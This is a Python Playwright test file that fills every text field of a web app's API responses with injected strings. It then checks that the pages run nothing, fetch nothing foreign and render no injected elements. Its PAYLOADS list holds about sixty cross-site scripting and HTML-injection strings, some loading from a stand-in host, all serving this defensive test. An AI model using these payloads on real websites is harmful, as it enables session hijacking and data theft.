"""Texts of strangers are text: whatever an answer of the API has in its fields, no page runs it or fetches anything."""

import itertools
import json
import re
from typing import Any

import pytest
from addresses import ADDRESSES, address_of, name_of
from playwright.sync_api import Page, Route

_URL = "https://stranger.example/x"
_CODE = "alert(document.domain)"
PAYLOADS = [
    f"<script>{_CODE}</script>",
    f"</title><script>{_CODE}</script>",
    f"</script><script>{_CODE}</script>",
    f"<ScRiPt src={_URL}></sCrIpT>",
    f"<script src='{_URL}'></script>",
    f"<script type=module>import '{_URL}'</script>",
    f"<img src=x onerror={_CODE}>",
    f"<img src={_URL}>",
    f"<img src='{_URL}' srcset='{_URL} 2x'>",
    f"<svg onload={_CODE}>",
    f"<svg><script>{_CODE}</script></svg>",
    f"<svg><animate onbegin={_CODE} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_CODE}'><text y=9>x</text></a></svg>",
    f"<svg><use href='{_URL}#x'/></svg>",
    f"<svg><foreignObject><iframe src='javascript:{_CODE}'></iframe></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_CODE}>",
    f"<body onload={_CODE}>",
    f"<iframe src='javascript:{_CODE}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_CODE}</script>'></iframe>",
    f"<iframe src='{_URL}'></iframe>",
    f"<object data='{_URL}'></object>",
    f"<embed src='{_URL}'>",
    f"<link rel=stylesheet href='{_URL}'>",
    f"<link rel=preload as=script href='{_URL}'>",
    f"<style>@import '{_URL}';</style>",
    f"<style>body{{background:url({_URL})}}</style>",
    f"<base href='{_URL}'>",
    f"<meta http-equiv=refresh content='0;url={_URL}'>",
    f"<form action='{_URL}'><button autofocus onfocus={_CODE}>x</button></form>",
    f"<input autofocus onfocus={_CODE}>",
    f"<select autofocus onfocus={_CODE}><option>x</select>",
    f"<textarea autofocus onfocus={_CODE}></textarea>",
    f"<details open ontoggle={_CODE}>x</details>",
    f"<video><source onerror={_CODE}></video>",
    f"<video poster='{_URL}' autoplay></video>",
    f"<audio src=x onerror={_CODE}>",
    f"<marquee onstart={_CODE}>x</marquee>",
    f"<a href='javascript:{_CODE}'>x</a>",
    f"<a href='java&#115;cript:{_CODE}'>x</a>",
    f"<a href='data:text/html,<script>{_CODE}</script>'>x</a>",
    f"javascript:{_CODE}",
    f"JaVaScRiPt:{_CODE}//",
    f"data:text/html,<script>{_CODE}</script>",
    f"\x01javascript:{_CODE}",
    f"'-{_CODE}-'",
    f'"-{_CODE}-"',
    f"`${{{_CODE}}}`",
    f"${{{_CODE}}}",
    f"{{{{constructor.constructor('{_CODE}')()}}}}",
    f"' onmouseover='{_CODE}' x='",
    f'" autofocus onfocus="{_CODE}" x="',
    f"--><script>{_CODE}</script><!--",
    f"]]><script>{_CODE}</script>",
    f"\u2028{_CODE}\u2029",
    f"&lt;script&gt;{_CODE}&lt;/script&gt;",
    f"<x contenteditable onblur={_CODE} autofocus>x</x>",
    f"<template><script>{_CODE}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_CODE}>'>",
    f"@import url({_URL});",
    f"<portal src='{_URL}'></portal>",
]
ROUNDS = 4
# Words of a closed list, bytes, ids and moments stay: a page that could not read them would show nothing.
_KEPT_NAMES = {"status", "mode", "code", "role", "scopes", "kind", "format", "key_base64", "value_base64"}
_KEPT = re.compile(r"[0-9a-f-]{36}|\d{4}-\d\d-\d\dT.*")


def poisoned(value: Any, payloads: Any, name: str = "") -> Any:
    """The same JSON with another payload in the place of each text."""
    if isinstance(value, dict):
        return {key: poisoned(each, payloads, key) for key, each in value.items()}
    if isinstance(value, list):
        return [poisoned(each, payloads, name) for each in value]
    if not isinstance(value, str) or name in _KEPT_NAMES or _KEPT.fullmatch(value):
        return value
    return next(payloads)


def poison(page: Page, first: int) -> None:
    """Put payloads, from this one on, into every answer and every event of the API."""
    payloads = itertools.cycle(PAYLOADS[first:] + PAYLOADS[:first])

    def answer(route: Route) -> None:
        if "/v1/live" in route.request.url:
            route.continue_()
            return
        if "/events" in route.request.url:
            data = [{"attempt": 1}, {"text": next(payloads)}, {"reply": next(payloads), "usage": None}]
            names = ("started", "delta", "completed")
            events = [
                f"id: 1.1\nevent: {name}\ndata: {json.dumps(each)}\n\n" for name, each in zip(names, data, strict=True)
            ]
            route.fulfill(status=200, content_type="text/event-stream", body="".join(events))
            return
        response = route.fetch()
        if "json" not in response.headers.get("content-type", ""):
            route.fulfill(response=response)
            return
        route.fulfill(response=response, json=poisoned(response.json(), payloads))

    page.route("**/v1/**", answer)


@pytest.mark.parametrize("round", range(ROUNDS))
@pytest.mark.parametrize(("path", "sample"), ADDRESSES, ids=name_of)
def test_texts_stay_texts(path: str, sample: str, round: int, open_watched: Any, seen: dict[str, Any]) -> None:
    """With a payload in each text of each answer a page opens no dialog, and makes no foreign call and no violation."""
    watched = open_watched()
    poison(watched.page, round * len(PAYLOADS) // ROUNDS)
    page = watched.open(address_of(path, sample, seen))
    page.wait_for_selector(".dot.is-live")
    watched.settle()

    assert [] == watched.problems()
    assert 0 == page.locator("main :is(script, iframe, object, embed, img, link, style, base, form[action])").count()
